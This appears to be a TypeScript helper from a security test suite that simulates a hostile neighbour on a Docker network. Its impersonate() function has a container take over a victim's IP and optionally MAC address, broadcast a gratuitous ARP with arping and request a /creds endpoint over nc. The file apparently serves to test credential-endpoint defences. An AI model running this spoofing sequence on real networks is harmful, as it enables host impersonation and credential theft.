/**
 * A hostile neighbour on a Docker network: it rewrites its own interface (NET_ADMIN) to the
 * victim's address and, optionally, MAC, announces it with a gratuitous ARP and lets its kernel make
 * the request. The frames on the wire are those a CAP_NET_RAW attacker crafts by hand, sent from
 * the attacker's own bridge port.
 */
import type Docker from 'dockerode';
import { exec } from './docker.ts';

export interface Party {
  container: Docker.Container;
  ip: string;
  mac: string;
}

/** Become `victim` on the wire (its address, and its MAC or the attacker's own), then ask for /creds; prints the answer, or nothing. */
export async function impersonate(attacker: Party, victim: Party, endpoint: string, withMac: boolean): Promise<string> {
  const script = [
    `ip link set eth0 down && ip link set eth0 address ${withMac ? victim.mac : attacker.mac} && ip link set eth0 up`,
    'ip addr flush dev eth0',
    `ip addr add ${victim.ip}/24 dev eth0`,
    // Gratuitous ARP: "the victim's address is at my MAC".
    `arping -U -c 2 -w 1 -I eth0 -s ${victim.ip} ${victim.ip} >/dev/null 2>&1 || true`,
    `printf 'GET /creds HTTP/1.0\\r\\nHost: ${endpoint}\\r\\n\\r\\n' | nc -w 3 ${endpoint} 80 || true`,
  ].join('; ');
  return (await exec(attacker.container, ['sh', '-c', script])).stdout;
}

